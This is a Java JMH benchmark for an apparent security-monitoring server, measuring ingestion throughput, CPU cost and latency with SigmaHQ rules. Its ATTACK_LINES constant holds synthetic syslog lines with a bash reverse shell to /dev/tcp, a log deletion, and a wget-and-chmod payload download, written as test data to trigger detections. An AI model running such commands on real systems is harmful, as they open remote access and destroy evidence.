package dev.vigil.benchmarks;

import dev.vigil.meta.Role;
import dev.vigil.meta.Tenant;
import dev.vigil.server.ServerConfig;
import dev.vigil.server.VigilServer;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.concurrent.atomic.AtomicLong;
import java.util.stream.Stream;
import org.openjdk.jmh.annotations.Benchmark;
import org.openjdk.jmh.annotations.BenchmarkMode;
import org.openjdk.jmh.annotations.Fork;
import org.openjdk.jmh.annotations.Level;
import org.openjdk.jmh.annotations.Measurement;
import org.openjdk.jmh.annotations.Mode;
import org.openjdk.jmh.annotations.OperationsPerInvocation;
import org.openjdk.jmh.annotations.OutputTimeUnit;
import org.openjdk.jmh.annotations.Param;
import org.openjdk.jmh.annotations.Scope;
import org.openjdk.jmh.annotations.Setup;
import org.openjdk.jmh.annotations.State;
import org.openjdk.jmh.annotations.TearDown;
import org.openjdk.jmh.annotations.Threads;
import org.openjdk.jmh.annotations.Warmup;

/**
 * Sustained ingestion through the whole server: requests of {@value #BATCH} real events from several client threads,
 * write-ahead log with the chosen fsync policy, detection with the built-in pack plus all 3,780 SigmaHQ rules, DuckDB
 * store. Two streams ({@link #stream}): {@code windows}, HTTP NDJSON bulk requests of Windows events (the SigmaHQ
 * regression records, each copy with its own record id: all of them attacks, 4.4 KB each as stored); {@code syslog},
 * Splunk HEC raw requests of the loghub Linux and OpenSSH syslog lines (real servers' logs, mostly routine, 110 bytes
 * each), the commonest feed a SOC takes.
 *
 * <p>A request the server refuses (429: the pipeline is behind) is retried after a pause and only counted once
 * accepted, so the score is what the server sustains, not what it buffers. After each iteration the server's own
 * acknowledgement-to-commit latency percentiles over that iteration alone are printed, from the buckets of {@code
 * vigil_ack_to_stored} (alerts commit with their events; each figure is the upper bound of its bucket, over the
 * batches committed during the iteration, each timed from its oldest event).
 */
@State(Scope.Benchmark)
@BenchmarkMode(Mode.Throughput)
@OutputTimeUnit(TimeUnit.SECONDS)
@Fork(
        value = 1,
        jvmArgs = {"-Xmx4g", "-XX:+UseParallelGC"})
@Warmup(iterations = 1, time = 20)
@Measurement(iterations = 3, time = 20)
@Threads(4)
public class IngestBenchmark {
    static final int BATCH = 1000;
    static final int BODIES = 64;

    /** {@code windows}: NDJSON of the Windows regression events; {@code syslog}: HEC raw lines of loghub syslog. */
    @Param({"windows"})
    public String stream;

    /** {@code all}: the 3,780 SigmaHQ rules besides the built-in pack; {@code builtin}: the pack only. */
    @Param({"all"})
    public String rules;

    @Param({"always"})
    public String fsync;

    /** {@code pipeline.batch_size}: the most events the pipeline takes from the log at once. */
    @Param({"10000"})
    public int batchSize;

    /** {@code pipeline.max_pending}: the backlog (acknowledged, not yet stored) at which inputs are refused. */
    @Param({"100000"})
    public int maxPending;

    /** {@code pipeline.max_lag_ms}: 0 bounds the backlog by count only. */
    @Param({"2000"})
    public int maxLagMs;

    /** {@code pipeline.linger_ms}: how long a batch that is not full may fill, from its oldest event's arrival. */
    @Param({"100"})
    public int lingerMs;

    /**
     * Events per second the clients offer together, paced by a shared schedule of request slots; 0 sends as fast as
     * the server accepts. Paced runs measure the latency at a load the server sustains: unpaced, every event waits
     * behind a full backlog, so the percentiles only say how deep the backlog may grow ({@code maxLagMs}).
     */
    @Param({"0"})
    public int offeredRate;

    /**
     * How far behind its schedule a paced client may fall and still send the slots it missed (as fast as the server
     * takes them), as a shipper with a buffer of that many milliseconds does; 0 drops every slot missed by more than
     * one interval, so a server that pauses loses that load for good.
     */
    @Param({"0"})
    public int catchUpMs;

    /**
     * {@code syslog} stream: every this-many-th line is an attack (one of {@link #ATTACK_LINES}, each firing SigmaHQ
     * Linux rules), so the run raises alerts and its latency is that of alerts too; 0 sends the loghub lines alone,
     * which fire nothing (every run before the seventeenth session).
     */
    @Param({"1000"})
    public int attackEvery;

    /**
     * Attack lines written for this benchmark, in the loghub lines' RFC 3164 form: an OpenSSH error that signals an
     * exploit attempt, a stack smash, a reverse shell to /dev/tcp, the syslog deleted, a download made executable in
     * /tmp, a corrupted MAC. Each fires one or two SigmaHQ rules of {@code rules/linux/builtin}.
     */
    static final List<String> ATTACK_LINES = List.of(
            "Nov 28 00:01:02 web-prod-03 sshd[28131]: fatal: buffer_get_string: bad string length 1094861636",
            "Nov 28 00:01:03 web-prod-03 kernel: [ 8123.551021] nginx[2231]: stack smashing detected ***: terminated",
            "Nov 28 00:01:04 web-prod-03 bash[3312]: cmd: bash -i >& /dev/tcp/185.220.101.7/4444 0>&1",
            "Nov 28 00:01:05 web-prod-03 bash[3312]: cmd: rm -f /var/log/syslog",
            "Nov 28 00:01:06 web-prod-03 bash[3312]: cmd: cd /tmp; wget http://185.220.101.7/x; chmod +x /tmp/x",
            "Nov 28 00:01:07 web-prod-03 sshd[28140]: Corrupted MAC on input. Disconnecting: Packet corrupt");

    /** The send time of the next request slot, on the {@link System#nanoTime} clock (paced runs only). */
    private final AtomicLong nextSlot = new AtomicLong(Long.MIN_VALUE);

    private Path data;
    private VigilServer server;
    private HttpClient http;
    private URI ingest;
    private String authorization;
    private String contentType;
    private final List<byte[]> bodies = new ArrayList<>();
    private final AtomicInteger next = new AtomicInteger();
    private final AtomicLong refused = new AtomicLong();
    private final AtomicLong accepted = new AtomicLong();
    private long iterationCpuNanos;
    private Map<Long, Long> iterationThreadCpu = Map.of();
    private TreeMap<Double, Double> iterationLatencyBuckets = new TreeMap<>();
    private double iterationAlerts;
    private static final java.util.regex.Pattern ALERTS_TOTAL =
            java.util.regex.Pattern.compile("vigil_alerts_total(?:\\{.*\\})? (\\S+)");
    /** A bucket line of the latency histogram; {@code le} may sit anywhere among the labels. */
    private static final java.util.regex.Pattern BUCKET = java.util.regex.Pattern.compile(
            "vigil_ack_to_stored_seconds_bucket\\{(?:.*,)?le=\"([^\"]+)\"(?:,.*)?\\} (\\S+)");

    private long iterationAccepted;

    @Setup(Level.Trial)
    public void setUp() throws Exception {
        System.out.printf("%nIngestBenchmark: before, %s%n", HostSpeed.measure().describe());
        switch (stream) {
            case "windows" -> {
                List<byte[][]> records = HuntBenchmark.readRecords();
                for (int b = 0; b < BODIES; b++) {
                    ByteArrayOutputStream out = new ByteArrayOutputStream(BATCH * 2048);
                    HuntBenchmark.writeCopies(records, BATCH, out);
                    bodies.add(out.toByteArray());
                }
            }
            case "syslog" -> {
                List<String> lines = new ArrayList<>();
                for (String log : List.of("Linux/Linux_2k.log", "OpenSSH/OpenSSH_2k.log")) {
                    lines.addAll(Files.readAllLines(
                            Corpus.root().resolve("logs/loghub").resolve(log), StandardCharsets.UTF_8));
                }
                // Attack lines are sent between the loghub lines, which keep their order: with attackEvery 0 the
                // stream is the one every earlier run sent.
                for (int b = 0, i = 0, sent = 0, attack = 0; b < BODIES; b++) {
                    StringBuilder body = new StringBuilder(BATCH * 128);
                    for (int k = 0; k < BATCH; k++) {
                        sent++;
                        String line = attackEvery > 0 && sent % attackEvery == 0
                                ? ATTACK_LINES.get(attack++ % ATTACK_LINES.size())
                                : lines.get(i++ % lines.size());
                        body.append(line).append('\n');
                    }
                    bodies.add(body.toString().getBytes(StandardCharsets.UTF_8));
                }
            }
            default -> throw new IllegalArgumentException("stream: windows or syslog, not " + stream);
        }
        data = Files.createTempDirectory("vigil-ingest-bench-");
        List<Path> dirs = new ArrayList<>();
        if (rules.equals("all")) {
            for (String d : Corpus.ALL_RULE_DIRS) {
                dirs.add(Corpus.sigma().resolve(d));
            }
        }
        ServerConfig cfg = ServerConfig.defaults()
                .withData(data)
                .withPort(0)
                .withRules(new ServerConfig.Rules(true, dirs, null))
                .withWal(new ServerConfig.Wal(
                        ServerConfig.Fsync.valueOf(fsync.toUpperCase(java.util.Locale.ROOT)),
                        Duration.ofMillis(10),
                        64L << 20))
                .withPipeline(new ServerConfig.Pipeline(
                        batchSize,
                        maxPending,
                        Duration.ofSeconds(1),
                        Duration.ofHours(1),
                        Runtime.getRuntime().availableProcessors(),
                        Duration.ofMillis(maxLagMs),
                        Duration.ofMillis(lingerMs)));
        server = VigilServer.start(cfg);
        Tenant t = server.metadata().createTenant("bench");
        String token =
                server.metadata().createToken(t.id(), Role.INGEST, "bench").token();
        http = HttpClient.newBuilder().version(HttpClient.Version.HTTP_1_1).build();
        String base = "http://127.0.0.1:" + server.port();
        if (stream.equals("windows")) {
            authorization = "Bearer " + token;
            contentType = "application/x-ndjson";
            ingest = URI.create(base + "/api/v1/ingest");
        } else {
            authorization = "Splunk " + token;
            contentType = "text/plain";
            ingest = URI.create(base + "/services/collector/raw?sourcetype=syslog");
        }
        System.out.printf(
                "%nIngestBenchmark: %s stream, %d rules, fsync %s, %d-event requests of %d KB%n",
                stream, server.ruleReport().loaded(), fsync, BATCH, bodies.get(0).length >> 10);
    }

    @Benchmark
    @OperationsPerInvocation(BATCH)
    public int postBatch() throws IOException, InterruptedException {
        byte[] body = bodies.get(Math.floorMod(next.getAndIncrement(), BODIES));
        if (offeredRate > 0) {
            long interval = BATCH * 1_000_000_000L / offeredRate;
            long now = System.nanoTime();
            nextSlot.compareAndSet(Long.MIN_VALUE, now);
            // A client that falls behind the schedule sends at once; slots are saved up for at most catchUpMs.
            long keep = Math.max(interval, catchUpMs * 1_000_000L);
            long slot = nextSlot.getAndUpdate(s -> Math.max(s, System.nanoTime() - keep) + interval);
            long wait = slot - now;
            if (wait > 0) {
                Thread.sleep(wait / 1_000_000, (int) (wait % 1_000_000));
            }
        }
        while (true) {
            HttpResponse<Void> r = http.send(
                    HttpRequest.newBuilder(ingest)
                            .header("Authorization", authorization)
                            .header("Content-Type", contentType)
                            .POST(HttpRequest.BodyPublishers.ofByteArray(body))
                            .build(),
                    HttpResponse.BodyHandlers.discarding());
            if (r.statusCode() == 200) {
                accepted.addAndGet(BATCH);
                return r.statusCode();
            }
            // The NDJSON endpoint refuses with 429, HEC (as Splunk does) with 503; both say when to retry.
            if (r.statusCode() != 429 && r.statusCode() != 503) {
                throw new IllegalStateException("ingest answered " + r.statusCode());
            }
            refused.incrementAndGet();
            Thread.sleep(20);
        }
    }

    /**
     * Process CPU per accepted event, per iteration: on two cores the server is CPU-bound, so this is the figure a
     * change moves, and it varies less from run to run than the rate does. It includes the clients' own work (they run
     * in this JVM: building requests, HTTP), which is the same for every build compared.
     */
    @Setup(Level.Iteration)
    public void startIteration() throws Exception {
        iterationCpuNanos = processCpuNanos();
        iterationThreadCpu = threadCpuNanos();
        iterationAccepted = accepted.get();
        iterationLatencyBuckets = ackToStoredBuckets();
        iterationAlerts = alertsTotal;
    }

    @TearDown(Level.Iteration)
    public void endIteration() throws Exception {
        long events = accepted.get() - iterationAccepted;
        long cpu = processCpuNanos() - iterationCpuNanos;
        if (events > 0) {
            System.out.printf(
                    "%nIngestBenchmark: %.1f us of process CPU per accepted event (%d events)%n",
                    cpu / 1e3 / events, events);
            System.out.println("IngestBenchmark: by thread, us per event: " + cpuByThreadGroup(events));
        }
        // The histogram's buckets give the percentiles over this iteration alone (batches committed during it, each
        // timed from its oldest event; a bucket's upper bound), not reaching back into the warm-up.
        TreeMap<Double, Double> now = ackToStoredBuckets();
        double total = now.lastEntry().getValue() - iterationLatencyBuckets.getOrDefault(now.lastKey(), 0.0);
        if (total > 0) {
            System.out.printf(
                    "IngestBenchmark: this iteration, acknowledgement to stored: p50 <= %s s, p99 <= %s s,"
                            + " p99.9 <= %s s, max <= %s s (%.0f batches, %.0f alerts)%n",
                    quantile(now, 0.5, total),
                    quantile(now, 0.99, total),
                    quantile(now, 0.999, total),
                    quantile(now, 1.0, total),
                    total,
                    alertsTotal - iterationAlerts);
        }
    }

    /** The upper bound of the first bucket holding the {@code q} quantile of what was recorded since the snapshot. */
    private String quantile(TreeMap<Double, Double> now, double q, double total) {
        for (Map.Entry<Double, Double> bucket : now.entrySet()) {
            double count = bucket.getValue() - iterationLatencyBuckets.getOrDefault(bucket.getKey(), 0.0);
            if (count >= q * total) {
                return bucket.getKey().isInfinite() ? "+Inf" : String.format("%.3f", bucket.getKey());
            }
        }
        return "+Inf";
    }

    /** {@code vigil_alerts_total} as the last {@link #ackToStoredBuckets} read it. */
    private double alertsTotal;

    /**
     * The cumulative bucket counts of {@code vigil_ack_to_stored_seconds}, by upper bound in seconds; also reads {@code
     * vigil_alerts_total} into {@link #alertsTotal}.
     */
    private TreeMap<Double, Double> ackToStoredBuckets() throws Exception {
        String body = http.send(
                        HttpRequest.newBuilder(URI.create("http://127.0.0.1:" + server.port() + "/metrics"))
                                .build(),
                        HttpResponse.BodyHandlers.ofString())
                .body();
        TreeMap<Double, Double> buckets = new TreeMap<>();
        for (String line : body.lines().toList()) {
            java.util.regex.Matcher alerts = ALERTS_TOTAL.matcher(line);
            if (alerts.matches()) {
                alertsTotal = Double.parseDouble(alerts.group(1));
            }
            java.util.regex.Matcher m = BUCKET.matcher(line);
            if (m.matches()) {
                String le = m.group(1);
                double bound = le.equals("+Inf") ? Double.POSITIVE_INFINITY : Double.parseDouble(le);
                buckets.merge(bound, Double.parseDouble(m.group(2)), Double::sum);
            }
        }
        if (buckets.isEmpty()) {
            throw new IllegalStateException("no vigil_ack_to_stored_seconds buckets on /metrics");
        }
        return buckets;
    }

    /**
     * The CPU of the JVM's threads since the iteration began, per accepted event, grouped by thread name without its
     * numbers ({@code vigil-match-1} and {@code vigil-match-2} are {@code vigil-match}), largest first: what a change
     * to one stage moves, measured without the rest of the process's noise. A thread's native work (DuckDB's, in the
     * store's threads) counts as its own; threads that ended during the iteration are missed.
     */
    private String cpuByThreadGroup(long events) {
        Map<Long, Long> now = threadCpuNanos();
        Map<String, Long> byGroup = new TreeMap<>();
        for (Map.Entry<Long, Long> t : now.entrySet()) {
            long delta = t.getValue() - iterationThreadCpu.getOrDefault(t.getKey(), 0L);
            String name = threadNames.getOrDefault(t.getKey(), "?");
            byGroup.merge(name.replaceAll("[0-9]+", "").replaceAll("[-#_ ]+$", ""), delta, Long::sum);
        }
        StringBuilder out = new StringBuilder();
        byGroup.entrySet().stream()
                .sorted(Map.Entry.<String, Long>comparingByValue().reversed())
                .limit(10)
                .forEach(e -> out.append(String.format("%s %.1f, ", e.getKey(), e.getValue() / 1e3 / events)));
        return out.length() == 0 ? "" : out.substring(0, out.length() - 2);
    }

    private final Map<Long, String> threadNames = new java.util.concurrent.ConcurrentHashMap<>();

    /** Each live thread's CPU time by id; names are remembered for {@link #cpuByThreadGroup}. */
    private Map<Long, Long> threadCpuNanos() {
        java.lang.management.ThreadMXBean threads = java.lang.management.ManagementFactory.getThreadMXBean();
        Map<Long, Long> cpu = new java.util.HashMap<>();
        for (java.lang.management.ThreadInfo info : threads.getThreadInfo(threads.getAllThreadIds())) {
            if (info == null) {
                continue;
            }
            long nanos = threads.getThreadCpuTime(info.getThreadId());
            if (nanos >= 0) {
                cpu.put(info.getThreadId(), nanos);
                threadNames.put(info.getThreadId(), info.getThreadName());
            }
        }
        return cpu;
    }

    private static long processCpuNanos() {
        return ((com.sun.management.OperatingSystemMXBean)
                        java.lang.management.ManagementFactory.getOperatingSystemMXBean())
                .getProcessCpuTime();
    }

    @TearDown(Level.Trial)
    public void tearDown() throws Exception {
        server.awaitIdle(Duration.ofMinutes(5));
        HttpResponse<String> metrics = http.send(
                HttpRequest.newBuilder(URI.create("http://127.0.0.1:" + server.port() + "/metrics"))
                        .build(),
                HttpResponse.BodyHandlers.ofString());
        System.out.printf("%nIngestBenchmark: %d requests refused (429) and retried%n", refused.get());
        metrics.body()
                .lines()
                .filter(l -> (l.startsWith("vigil_ack_to_stored") && !l.contains("_bucket"))
                        || l.startsWith("vigil_events_stored")
                        || l.startsWith("vigil_alerts_total")
                        || l.startsWith("vigil_rule_time_seconds_sum"))
                .forEach(l -> System.out.println("IngestBenchmark: " + l));
        server.close();
        // After the server stopped, so no merge of its runs beside the probe.
        System.out.printf("IngestBenchmark: after, %s%n", HostSpeed.measure().describe());
        try (Stream<Path> walk = Files.walk(data)) {
            walk.sorted(java.util.Comparator.reverseOrder())
                    .forEach(p -> p.toFile().delete());
        }
    }
}
